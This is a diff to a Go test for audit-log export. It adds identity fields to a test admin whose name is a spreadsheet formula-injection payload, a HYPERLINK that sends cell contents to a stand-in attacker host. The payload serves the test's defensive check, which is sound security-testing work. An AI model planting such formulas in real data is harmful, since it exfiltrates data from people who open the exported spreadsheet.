@@ -156,7 +156,7 @@ func TestExportAuditLog(t *testing.T) {
 	env := newAdminEnv(t)
 	ctx := context.Background()
 	// Someone whose name a spreadsheet would run as a formula acts as an admin.
-	evil, err := env.store.SignIn(ctx, account.Identity{Subject: "test:evil", Email: "evil@example.com",
+	evil, err := env.store.SignIn(ctx, account.Identity{Issuer: "https://idp.test", EmailVerified: true, Subject: "test:evil", Email: "evil@example.com",
 		Name: `=HYPERLINK("https://evil.example/?"&A1,"Click")`, Roles: []account.Role{account.Admin}})
 	if err != nil {
 		t.Fatal(err)
